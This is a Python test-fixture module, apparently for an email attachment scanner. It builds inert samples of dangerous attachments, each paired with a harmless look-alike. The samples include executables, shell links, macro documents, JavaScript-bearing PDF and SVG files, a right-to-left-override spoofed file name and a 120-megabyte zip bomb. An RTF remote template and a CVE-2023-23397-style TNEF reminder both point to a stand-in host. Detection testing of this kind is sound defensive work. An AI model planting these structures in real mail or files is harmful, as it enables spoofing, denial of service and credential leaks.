"""Dangerous attachments: the least octets by which each kind is known.  None does anything."""
import io
import struct
import zipfile

from scene import attached, mail, multipart, near, part, scene


def pe():
    """An MZ header that points to a PE header, which describes nothing."""
    return b'MZ' + b'\0' * 58 + struct.pack('<I', 64) + b'PE\0\0' + struct.pack('<H',
                                                                                0x14c) + b'\0' * 200


def lnk():
    """A shell link's header (MS-SHLLINK, 2.1), with no target."""
    return struct.pack('<I', 0x4c) + bytes.fromhex('0114020000000000c000000000000046') + b'\0' * 56


def zipped(*members, encrypted=False):
    """encrypted: bit 0 of the flags is set, as if the octets were; they are not."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, 'w', zipfile.ZIP_DEFLATED) as archive:
        for name, octets in members:
            info = zipfile.ZipInfo(name, (2026, 1, 5, 8, 0, 0))
            archive.writestr(info, octets, zipfile.ZIP_DEFLATED)
    octets = bytearray(out.getvalue())
    if encrypted:
        octets[6] |= 1
        octets[octets.index(b'PK\1\2') + 8] |= 1
    return bytes(octets)


def ole(*streams):
    """A compound file (MS-CFB) of two sectors: the FAT, a directory with these empty entries."""
    head = bytes.fromhex('d0cf11e0a1b11ae1') + b'\0' * 16 + struct.pack(
        '<HHHHH', 0x3e, 3, 0xfffe, 9, 6)
    head += b'\0' * 10 + struct.pack('<IIIIIIII', 1, 1, 0, 4096, 0xfffffffe, 0, 0xfffffffe, 0)
    head += struct.pack('<I', 0) + b'\xff' * (512 - len(head) - 4)
    fat = struct.pack('<II', 0xfffffffd, 0xfffffffe) + b'\xff' * 504
    directory = b''
    for kind, name in [(5, 'Root Entry')] + [(1 if s.isupper() else 2, s) for s in streams]:
        text = name.encode('utf-16-le') + b'\0\0'
        directory += (text.ljust(64, b'\0') + struct.pack('<HBB', len(text), kind, 1) +
                      struct.pack('<III', 0xffffffff, 0xffffffff, 1 if kind == 5 else 0xffffffff) +
                      b'\0' * 36 + struct.pack('<IQ', 0xfffffffe, 0))
    return head + fat + directory.ljust(512, b'\0')


def ooxml(*extra):
    types = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
    return zipped(('[Content_Types].xml', types), ('word/document.xml', '<w:document/>'), *extra)


def pdf(extra):
    return (
        '%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R ' + extra + ' >>\nendobj\n'
        '2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n'
    )


OPEN = '/OpenAction << /S /JavaScript /JS (var x = 1;) >>'
ISO = b'\0' * 32768 + b'\1CD001\1\0' + b'\0' * 100

def bomb():
    return zipped(('zeros', b'\0' * 120_000_000))


SVG = '<svg xmlns="http://www.w3.org/2000/svg"{}>{}<path d="M0 0"/></svg>'
TEXT = zipped(('document.txt', 'x\n'))
HEBREW = '\u05d7\u05e9\u05d1\u05d5\u05df\u200f.pdf'

# A scene: its name, what it is, findings; the file's name and octets.  Its near miss: what, name, octets.
ROWS = (
    ('executable', 'a PE header', ['attach.executable'], 'setup.exe', pe(),
     'a text that begins with MZ', 'notes.txt', b'MZ is how a program begins.\n'),
    ('executable-renamed', 'a PE header called, and declared, a PDF',
     ['attach.executable', 'attach.type_mismatch'], 'invoice.pdf', pe(),
     'a PDF', 'invoice.pdf', pdf('')),
    ('shortcut', 'a shell link', ['attach.container'], 'document.lnk', lnk(),
     'a text', 'document.txt', b'L is for link.\n'),
    ('shortcut-zipped', 'a shell link in an archive', ['attach.risky_member'],
     'documents.zip', zipped(('document.lnk', lnk())),
     'a text in an archive', 'documents.zip', TEXT),
    ('script', 'JavaScript', ['attach.risky_name'], 'invoice.js', b'var x = 1;\n',
     'the same as a text', 'invoice.txt', b'var x = 1;\n'),
    ('container', 'an image of a disc', ['attach.container'], 'documents.iso', ISO,
     'zeros', 'zeros.bin', b'\0' * 33000),
    ('macro-ole', 'a compound file with a VBA storage', ['attach.macro'],
     'report.doc', ole('WordDocument', 'VBA', '_VBA_PROJECT'),
     'a compound file without', 'report.doc', ole('WordDocument', '1Table')),
    ('macro-ooxml', 'OOXML with vbaProject.bin', ['attach.macro'],
     'report.docm', ooxml(('word/vbaProject.bin', ole('VBA'))),
     'OOXML without', 'report.docx', ooxml()),
    ('remote-template', 'RTF whose template is elsewhere', ['attach.remote_template'], 'report.rtf',
     '{\\rtf1{\\*\\template http://203.0.113.9/x.dotm}Hello.}',
     'RTF with a template of the own disk', 'report.rtf', '{\\rtf1{\\*\\template normal.dot}Hello.}'),
    ('encrypted-alone', 'an encrypted archive', ['attach.encrypted_archive'], 'documents.zip',
     zipped(('document.txt', 'x\n'), encrypted=True), 'an archive', 'documents.zip', TEXT),
    ('encrypted', 'an encrypted archive, its password in the text', ['attach.encrypted_with_password'],
     'documents.zip', zipped(('document.txt', 'x\n'), encrypted=True),
     'an archive', 'documents.zip', TEXT),
    ('pdf-active', 'a PDF that runs JavaScript when opened', ['attach.pdf_active'],
     'form.pdf', pdf(OPEN),
     'a PDF that speaks of it', 'form.pdf', pdf('/Title (How JavaScript runs in OpenAction)')),
    ('double-extension', 'two extensions', ['attach.double_ext', 'attach.executable'],
     'invoice.pdf.exe', pe(),
     'a date in the name', 'invoice.2026.pdf', pdf('')),
    ('rtlo', 'a name turned around by U+202E', ['attach.rtlo', 'attach.executable'],
     'invoice\u202efdp.exe', pe(),
     'a Hebrew name with a mark (U+200F)', HEBREW, pdf('')),
    ('bomb', '120 megabytes of zeros in 120 kilobytes', ['attach.bomb'], 'zeros.zip', bomb,
     'a text that packs well', 'text.zip', zipped(('text.txt', 'a line of text\n' * 400))),
    ('svg', 'an SVG with a script', ['attach.svg_script'],
     'logo.svg', SVG.format(' onload="var x = 1"', '<script>var x = 1</script>'),
     'an SVG', 'logo.svg', SVG.format('', '')),
)
TYPES = {'pdf': 'application/pdf', 'svg': 'image/svg+xml', 'txt': 'text/plain'}


def send(capture, name, content, text='See the attachment.'):
    declared = TYPES.get(name.rpartition('.')[2], 'application/octet-stream')
    content = content() if callable(content) else content
    mail(capture, multipart(part('text/plain; charset=us-ascii', None, text + '\n', '7bit'),
                            part(declared, name, content), subject='Documents'))


def file_scene(name, what, finds, file_name, content, near_what, near_name, near_content):
    @scene(f'attach-{name}', what, finds)
    def dangerous(capture):
        text = 'Password: correct-horse' if name == 'encrypted' else 'See the attachment.'
        send(capture, file_name, content, text)

    @near(f'attach-{name}', near_what)
    def harmless(capture):
        send(capture, near_name, near_content)


for row in ROWS:
    file_scene(*row)


def tnef(kind, attribute):
    """A TNEF stream of one attribute (MS-OXTNEF, section 2.1.3)."""
    return (struct.pack('<IH', 0x223e9f78, 1) + struct.pack('<BII', 1, kind, len(attribute)) +
            attribute + struct.pack('<H', sum(attribute) & 0xffff))


@scene('attach-tnef-unc', "a reminder's sound on a share (CVE-2023-23397), in TNEF",
       ['attach.reminder_unc'])
def reminder(capture):
    path = '\\\\203.0.113.9\\share\\x.wav\0'.encode('utf-16-le')
    # PidLidReminderFileParameter, of PSETID_Common, by its number.
    common = bytes.fromhex('0820060000000000c000000000000046')
    named = struct.pack('<HH', 0x1f, 0x8001) + common + struct.pack('<II', 0, 0x851f)
    value = struct.pack('<II', 1, len(path)) + path + b'\0' * (-len(path) % 4)
    octets = tnef(0x00069003, struct.pack('<I', 1) + named + value)
    mail(capture, attached('winmail.dat', octets, 'application/ms-tnef'))


@near('attach-tnef-unc', 'TNEF with a subject')
def tnef_subject(capture):
    mail(capture, attached('winmail.dat', tnef(0x00018004, b'Hello\0'), 'application/ms-tnef'))
